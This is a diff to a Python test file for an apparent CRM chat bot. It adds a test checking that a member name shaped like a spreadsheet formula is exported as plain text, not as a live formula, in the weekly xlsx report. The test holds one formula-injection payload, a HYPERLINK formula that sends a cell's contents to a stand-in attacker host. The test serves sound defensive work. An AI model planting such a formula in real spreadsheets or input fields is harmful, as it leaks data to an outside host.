@@ -43,7 +43,7 @@ from handlers.reminders_views import figure_label
 from handlers.report_charts import CJK_FAMILY, activity_chart, cjk_font_path
 from handlers.reports import parse_period
 from handlers.types import Reply
-from tests.builders import make_admin, make_member
+from tests.builders import make_admin, make_contact, make_member
 from tests.handlers.conftest import Chat
 
 TZ = ZoneInfo("Asia/Shanghai")
@@ -487,3 +487,20 @@ def test_crm_bot_report_writes_the_same_files(sqlite_engine: Engine, tmp_path: P
     refused = crm_bot("--period", "fortnight", "--as", str(MANAGER_ID))
     assert refused.returncode == 2 and "Usage: /report week" in refused.stderr
     assert crm_bot("--as", "999").returncode == 2
+
+
+async def test_names_that_look_like_formulas_are_plain_text_in_the_workbook(
+    engine: Engine
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    admin = make_admin(engine)
+    rep = make_member(engine, by=admin, role=Role.REP, name=evil, telegram_user_id=5151)
+    make_contact(engine, owner=rep, name="张伟")
+    await Chat(engine, user_id=5151).send("/log 张伟 call 报价")
+    replies = await Chat(engine).send("/report week")
+    documents = [r for r in replies if (r.filename or "").endswith(".xlsx")]
+    book = load_workbook(io.BytesIO(documents[0].document or b""))
+    formulas = [(sheet.title, cell.coordinate) for sheet in book.worksheets
+                for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+    assert formulas == []
+    assert "'" + evil in [row[0] for row in sheet_rows(book, "Activity")[1:]]
